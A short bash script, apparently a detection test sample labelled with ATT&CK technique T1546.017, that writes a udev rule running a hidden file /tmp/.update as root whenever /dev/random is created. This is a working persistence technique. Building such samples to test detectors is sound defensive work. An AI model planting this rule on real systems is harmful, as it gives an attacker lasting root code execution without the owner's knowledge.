#!/bin/bash
# Drop a udev rule that runs a command as root whenever /dev/random is (re)created.
# technique: T1546.017
# expect: udev-rule-persistence
set -eu
mkdir -p /etc/udev/rules.d
echo 'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/tmp/.update"' \
    > /etc/udev/rules.d/75-persistent-random.rules
